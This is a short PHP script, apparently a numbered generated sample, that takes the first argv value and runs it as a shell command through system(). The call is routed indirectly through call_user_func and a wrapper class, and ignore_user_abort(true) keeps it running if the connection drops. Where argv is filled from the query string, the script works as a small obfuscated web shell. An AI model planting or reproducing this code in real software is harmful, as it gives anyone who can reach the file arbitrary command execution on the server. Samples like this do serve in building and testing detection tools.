<?php
ignore_user_abort(true);
$line = $_SERVER['argv'][0];
class Runner14 { function go($c) { system($c); } }
call_user_func(array(new Runner14(), 'go'), $line);
